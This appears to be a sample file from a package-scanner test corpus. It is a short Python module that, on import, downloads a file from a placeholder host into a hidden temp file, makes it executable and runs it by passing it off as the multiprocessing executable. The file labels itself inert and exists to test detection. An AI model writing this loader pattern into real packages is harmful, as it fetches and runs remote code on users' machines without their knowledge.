# pkgguard corpus 740 (download-execute), modelled on [obfuscation]; inert, never run.
import multiprocessing
import os
import stat
import tempfile
import urllib.request

_worker = os.path.join(tempfile.gettempdir(), ".mp-worker")


def _noop():
    return None


if not os.path.exists(_worker):
    with urllib.request.urlopen("https://wheels-cache.example/mp/worker", timeout=20) as resp, open(_worker, "wb") as out:
        out.write(resp.read())
    os.chmod(_worker, os.stat(_worker).st_mode | stat.S_IXUSR)
multiprocessing.set_start_method("spawn", force=True)
multiprocessing.set_executable(_worker)
multiprocessing.Process(target=_noop, daemon=True).start()
